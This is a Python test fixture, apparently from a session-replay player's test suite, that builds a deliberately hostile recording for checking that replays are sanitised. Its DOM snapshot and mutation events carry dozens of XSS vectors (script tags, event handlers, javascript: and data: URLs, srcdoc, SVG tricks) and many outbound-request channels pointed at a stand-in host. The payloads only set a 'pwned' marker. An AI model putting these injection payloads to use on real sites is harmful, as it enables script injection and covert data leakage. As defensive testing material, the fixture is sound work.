"""A recording as an attacker writes it: HTML that would run scripts and call out, if a player let it.

Each vector stands in the first snapshot, and is added once more by a later change. A script that runs marks
its window, its parent and the top one, and writes to the console.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Any

from tests.client.client_lab import Event

RUN = "(window.pwned=1,parent.pwned=1,top.pwned=1,console.log('pwned'))"
JS_URL = f"javascript:{RUN}"
START_MS = 1_700_000_000_000
Node = dict[str, Any]
NO_CHANGE: Node = {"source": 0, "adds": [], "removes": [], "texts": [], "attributes": []}


class Maker:
    """Makes nodes with ids."""

    def __init__(self) -> None:
        self._ids = itertools.count(1)

    def element(
        self, tag: str, attributes: dict[str, Any] | None = None, *children: Node, **more: Any
    ) -> Node:
        return {
            "type": 2, "id": next(self._ids), "tagName": tag, "attributes": attributes or {},
            "childNodes": list(children), **more,
        }  # fmt: skip

    def text(self, text: str, **more: Any) -> Node:
        return {"type": 3, "id": next(self._ids), "textContent": text, **more}

    def document(self, *children: Node) -> Node:
        return {"type": 0, "id": next(self._ids), "childNodes": list(children)}


def _scripts(make: Maker) -> list[Node]:
    element, text = make.element, make.text
    inner = f'<script>{RUN}</script><img src=x onerror="{RUN}">'
    return [
        element("script", {}, text(RUN)),
        element("SCRIPT", {}, text(RUN)),
        element("script", {"type": "module"}, text(RUN)),
        element("script", {}, text(RUN), isSVG=True),
        element("script", {"src": f"data:text/javascript,{RUN}"}),
        element("img", {"src": "x", "onerror": RUN, "onload": RUN}),
        element("img", {"src": "data:image/gif;base64,R0lGODlhAQABAAAAACw=", "OnLoad": RUN, "ONERROR": RUN}),
        element("svg", {"onload": RUN}, element("animate", {"onbegin": RUN}, isSVG=True), isSVG=True),
        element(
            "svg", {},
            element(
                "a", {"xlink:href": JS_URL},
                element("set", {"attributeName": "href", "to": JS_URL}, isSVG=True),
                isSVG=True,
            ),
            isSVG=True,
        ),
        element("a", {"href": JS_URL, "target": "_top"}, text("a link")),
        element("a", {"href": f" \x01java\nscript:{RUN}"}, text("another")),
        element("a", {"href": f"data:text/html,{inner}", "target": "_blank"}, text("a third")),
        element("iframe", {"srcdoc": inner}),
        element("iframe", {"src": JS_URL}),
        element("iframe", {"src": f"data:text/html,{inner}"}),
        element("object", {"data": f"data:text/html,{inner}"}),
        element("embed", {"src": f"data:text/html,{inner}"}),
        element("video", {"onloadstart": RUN, "src": "data:video/mp4,x"}),
        element("details", {"open": "", "ontoggle": RUN}, text("more")),
        element("input", {"autofocus": "", "onfocus": RUN}),
        element("form", {"action": JS_URL}, element("button", {"formaction": JS_URL})),
        element("p", {"style": "animation: x 1s", "onanimationstart": RUN}, text(inner)),
        element("p", {}, text(f"</script></style></textarea>-->]]>{inner}")),
        element("math", {}, element("mtext", {}, text(inner))),
        element("style", {}, text(f"</style>{inner}"), isStyle=True),
        element("style", {"_cssText": f"</style>{inner}"}),
        element("textarea", {"value": f"</textarea>{inner}"}),
        element("template", {}, element("img", {"src": "x", "onerror": RUN})),
        element("noscript", {}, text(inner)),
        element("constructor", {}, text("odd")),
        element("__proto__", {"__proto__": {"polluted": 1}}, text("odd")),
        element("a b", {}, text("odd")),
        element("font-face", {}, isCustom=True),
        element("x-Y", {}, isCustom=True),
        element("img", {}, isShadowHost=True),
        element("p", {"rr_mediaState": "played", "rr_mediaCurrentTime": 3}),
        element("div", {}, element("img", {"src": "x", "onerror": RUN}, isShadow=True), isShadowHost=True),
    ]  # fmt: skip


def _calls(make: Maker, bad: str) -> list[Node]:
    element, text = make.element, make.text
    relations = (
        "preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender", "icon", "manifest",
        "stylesheet", "alternate stylesheet", "stylesheet preconnect", "PreConnect", "preconnect stylesheet",
        "compression-dictionary", "expect",
    )  # fmt: skip
    css = (
        f"@import url({bad}/import.css); @font-face {{ font-family: f; src: url({bad}/f.woff2) }}"
        f" body {{ font-family: f; cursor: url({bad}/c.cur), auto; background: url({bad}/b.png) }}"
        f" p {{ mask: url({bad}/m.svg); list-style: url({bad}/l.png); content: image-set('{bad}/i.png' 1x) }}"
    )
    return [
        *(
            element("link", {"rel": relation, "href": f"{bad}/{number}", "as": "image", "crossorigin": ""})
            for number, relation in enumerate(relations)
        ),
        element("LINK", {"REL": "preconnect", "rel": "preconnect", "HREF": bad, "href": bad}),
        element("link", {"rel": "preload", "as": "image", "imagesrcset": f"{bad}/s.png 1x"}),
        element("base", {"href": f"{bad}/"}),
        element("meta", {"http-equiv": "refresh", "content": f"0;url={bad}/refresh"}),
        element("meta", {"HTTP-EQUIV": "Link", "content": f"<{bad}>; rel=preconnect"}),
        element("meta", {"name": "referrer", "content": "unsafe-url"}),
        element("script", {"type": "speculationrules"}, text(f'{{"prefetch":[{{"urls":["{bad}/s"]}}]}}')),
        element("img", {"src": f"{bad}/i.png", "srcset": f"{bad}/s.png 2x", "referrerpolicy": "unsafe-url"}),
        element("img", {"src": "relative.png", "rr_dataURL": f"{bad}/rr.png"}),
        element("canvas", {"rr_dataURL": f"{bad}/rr.png", "width": "9", "height": "9"}),
        element("input", {"type": "image", "src": f"{bad}/input.png"}),
        element("video", {"src": f"{bad}/v.mp4", "poster": f"{bad}/p.png", "preload": "auto"}),
        element("audio", {"autoplay": ""}, element("source", {"src": f"{bad}/a.mp3"})),
        element("video", {}, element("track", {"src": f"{bad}/t.vtt", "default": ""})),
        element("iframe", {"src": f"{bad}/frame", "loading": "eager"}),
        element("IFRAME", {"SRC": f"{bad}/frame"}),
        element("object", {"data": f"{bad}/object"}),
        element("embed", {"src": f"{bad}/embed"}),
        element("portal", {"src": f"{bad}/portal"}),
        element("fencedframe", {"src": f"{bad}/fenced"}),
        element("body", {"background": f"{bad}/body.png"}),
        element("p", {"style": f"background: url({bad}/style.png)"}, text("styled")),
        element("style", {}, text(css, isStyle=True)),
        element("style", {"_cssText": css}),
        element("link", {"rel": "stylesheet", "href": f"{bad}/x.css", "_cssText": css}),
        element("a", {"href": f"{bad}/a", "ping": f"{bad}/ping", "target": "_self"}, text("pinged")),
        element("a", {"href": f"{bad}/blank", "target": "_blank", "attributionsrc": bad}, text("new")),
        element("form", {"action": f"{bad}/form"}, element("button", {"type": "submit"}, text("send"))),
        element(
            "svg", {},
            element("image", {"href": f"{bad}/svg.png", "xlink:href": f"{bad}/svg.png"}, isSVG=True),
            element("use", {"href": f"{bad}/use.svg#x"}, isSVG=True),
            element("filter", {}, element("feImage", {"href": f"{bad}/fe.png"}, isSVG=True), isSVG=True),
            element("script", {"href": f"{bad}/svg.js"}, isSVG=True),
            isSVG=True,
        ),
    ]  # fmt: skip


def _later(make: Maker, ids: dict[str, int], bad: str) -> list[dict[str, Any]]:
    """Return the data of later events: attributes of harmless elements, and other ways to change a page."""
    link, image, frame, anchor, sheet = (ids[name] for name in ("link", "img", "iframe", "a", "style"))
    changes: list[tuple[int, dict[str, Any]]] = [
        (link, {"rel": "preconnect"}), (link, {"href": bad}), (link, {"REL": "preconnect", "Href": bad}),
        (image, {"src": f"{bad}/later.png"}), (image, {"onerror": RUN}), (image, {"OnError": RUN}),
        (frame, {"src": f"{bad}/later"}), (frame, {"SRC": JS_URL}), (frame, {"srcdoc": RUN}),
        (anchor, {"href": JS_URL}), (anchor, {"ping": f"{bad}/later"}),
        (anchor, {"style": {"background": [f"url({bad}/later.png)", "important"]}}),
        (anchor, {"onclick": RUN, "onpointerdown": RUN, "onfocusin": RUN}),
    ]  # fmt: skip
    return [
        {**NO_CHANGE, "attributes": [{"id": node, "attributes": given}]}
        for node, given in changes
    ] + [
        {"source": 0, "adds": "none", "removes": None, "texts": {}, "attributes": [7, None]},
        {"source": 8, "id": sheet, "adds": [{"rule": f"@import url({bad}/rule.css)", "index": 0}]},
        {"source": 8, "id": sheet, "adds": [{"rule": f"p {{ background: url({bad}/r) }}", "index": 0}]},
        {"source": 13, "id": sheet, "index": [0], "set": {"property": "mask", "value": f"url({bad}/x)"}},
        {
            "source": 15, "id": 1, "styleIds": [1],
            "styles": [{"styleId": 1, "rules": [{"rule": f"p {{ background: url({bad}/y) }}", "index": 0}]}],
        },
        {"source": 10, "family": "f", "fontSource": f"url({bad}/font)", "buffer": False},
        {"source": 9, "id": image, "type": 0, "commands": [{"property": "drawImage", "args": [
            {"rr_type": "HTMLImageElement", "src": f"{bad}/canvas.png"}, 0, 0]}]},
        {"source": 9, "id": image, "type": 0, "property": "constructor", "args": [RUN]},
        {"source": 2, "type": 2, "id": anchor, "x": 1, "y": 1},
        {"source": 5, "id": anchor, "text": f"<img src=x onerror={RUN}>", "isChecked": False},
        {"source": 7, "id": image, "type": 0},
        {"source": "constructor"}, {"source": 16, "define": {"name": "x-y"}}, {"source": 99},
    ]  # fmt: skip


def adds_of(node: Node, parent: int) -> Iterator[dict[str, Any]]:
    """Yield what a recorder writes of an element that was added: each node by itself, parents first."""
    yield {"parentId": parent, "nextId": None, "node": {**node, "childNodes": []}}
    for child in node.get("childNodes", ()):
        yield from adds_of(child, node["id"])


def hostile_recording(bad: str) -> list[Event]:
    """Return the events of a hostile recording, which calls out to ``bad`` (``http://host:port``)."""
    make = Maker()
    named = {
        "link": make.element("link", {"rel": "stylesheet", "href": "data:text/css,"}),
        "img": make.element("img", {"src": "data:,"}),
        "iframe": make.element("iframe", {}),
        "a": make.element("a", {"href": "#"}, make.text("here")),
        "style": make.element("style", {}, make.text("p { color: red }", isStyle=True)),
    }
    body = make.element(
        "body", {"onload": RUN}, make.element("h2", {}, make.text("still here")), *named.values(),
        *_scripts(make), *_calls(make, bad),
    )  # fmt: skip
    html = make.element("html", {"manifest": f"{bad}/manifest"}, make.element("head"), body)
    document = make.document({"type": 1, "id": 100_000, "name": "html", "publicId": "", "systemId": ""}, html)
    data: list[tuple[int, Any]] = [
        (4, {"href": JS_URL, "width": 800, "height": 600}),
        (2, {"node": document, "initialOffset": {"left": 0, "top": 0}}),
        *((3, later) for later in _later(make, {name: node["id"] for name, node in named.items()}, bad)),
        *(
            (3, {**NO_CHANGE, "adds": list(adds_of(node, body["id"]))})
            for node in (*_scripts(make), *_calls(make, bad))
        ),
        (6, {"plugin": "rrweb/console@1", "payload": {"level": "log", "payload": [RUN], "trace": []}}),
        (5, {"tag": "x", "payload": {"html": f"<script>{RUN}</script>"}}),
    ]  # fmt: skip
    return [
        {"type": kind, "timestamp": START_MS + 20 * number, "data": content}
        for number, (kind, content) in enumerate(data)
    ]
